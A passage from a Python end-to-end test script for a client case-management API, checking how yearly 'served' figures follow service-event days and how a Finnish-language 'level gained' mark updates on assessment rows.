        return tuple(None if v in ("None", "") else v for v in row)

    base = {y: served(y) for y in (2020, 2022)}
    d = ok(s, c.post("/api/v1/clients", {"first_name": "Dan", "last_name": "Palveltu", "target_groups": ["immigrant"],
                                         "intake_on": "2019-05-01", "status": "closed"}), "client D")["id"]
    s.check(served(2022) == base[2022], "closed, intake before the period: not served")
    e1 = ok(s, c.post("/api/v1/service-events", {"client_id": d, "type": "meeting", "happened_on": "2022-03-10"}),
            "D's event in 2022")
    s.check(served(2022) == base[2022] + 1, "served through the event's day on the row")
    for day in ("2021-01-10", "2023-06-01"):
        ok(s, c.post("/api/v1/service-events", {"client_id": d, "type": "meeting", "happened_on": day}), "D's event")
    s.check(days(d) == ("2021-01-10", "2023-06-01"), f"first and last day on the row: {days(d)}")
    s.check(served(2022) == base[2022] + 1, "the first and last day outside 2022: the event between them is found")
    ok(s, c.patch(f"/api/v1/service-events/{e1['id']}", {"happened_on": "2020-02-02"}), "D's event moved", 200)
    s.check(days(d) == ("2020-02-02", "2023-06-01"), f"the moved event moves the first day: {days(d)}")
    s.check(served(2022) == base[2022] and served(2020) == base[2020] + 1,
            f"no event in 2022 any more, one in 2020: {served(2022)} {served(2020)}")
    s.expect(c.post(f"/api/v1/clients/{d}/erase", {"reason": "client_request"}), 200, "D is erased")
    s.check(days(d) == (None, None), f"erasure clears the days: {days(d)}")
    s.check(served(2020) == base[2020] + 1, "an erased client's kept events still count (probed)")


def test_level_gained_mark(s):
    """The Finnish level gained through the mark on each language row (migration 0026): set on a write of any of the
    client's language rows, unset when an earlier row's level is raised, and a row without it still counted."""
    c, m = as_("counsellor"), as_("manager")

    def gained(year):
        return api_figures(m, f"from={year}-01-01&to={year}-12-31")["finnish_level_gained"]

    def marks(cid):
        return [r[0] for r in db_sql(DB, f"SELECT level_gained FROM clients c JOIN client_languages l ON "
                                         f"l.client_id = c.id WHERE c.id = {int(cid)} ORDER BY l.assessed_on")]

    base = gained(2018)
    f = ok(s, c.post("/api/v1/clients", {"first_name": "Fia", "last_name": "Kielinen", "target_groups": ["immigrant"],
                                         "intake_on": "2017-03-01", "status": "active"}), "client F")["id"]
    a1 = ok(s, c.post("/api/v1/client-languages", {"client_id": f, "language": "fi", "level": "A1",
                                                   "assessed_on": "2017-04-01"}), "F's Finnish A1")
    ok(s, c.post("/api/v1/client-languages", {"client_id": f, "language": "fi", "level": "B1",
                                              "assessed_on": "2018-05-01"}), "F's Finnish B1 a year later")
    s.check(marks(f) == ["0", "1"], f"the later, higher row is marked: {marks(f)}")
    s.check(gained(2018) == base + 1, "gained in 2018")
    ok(s, c.patch(f"/api/v1/client-languages/{a1['id']}", {"level": "C1"}), "the earlier level raised", 200)
    s.check(marks(f) == ["0", "0"], f"the mark of the other row follows: {marks(f)}")
    s.check(gained(2018) == base, "no gain any more")
    ok(s, c.patch(f"/api/v1/client-languages/{a1['id']}", {"level": "A2"}), "the earlier level lowered again", 200)
    db_sql(DB, f"UPDATE client_languages SET level_gained = NULL WHERE client_id = {int(f)}")
    s.check(gained(2018) == base + 1, "a row without the mark is still counted (looked at)")


ok_all = S.run([test_fixture, test_figures, test_filters_and_crosstab, test_profile_change_rederives,
                test_roles_and_pseudonymised_export, test_csv_injection, test_localised_exports,
                test_partial_work_ability_suppressed, test_served_by_event_days,
                test_level_gained_mark])
rc = srv.stop()
S.check(rc == 0, f"server stopped cleanly (exit {rc})")
sys.exit(0 if S.failed == 0 else 1)
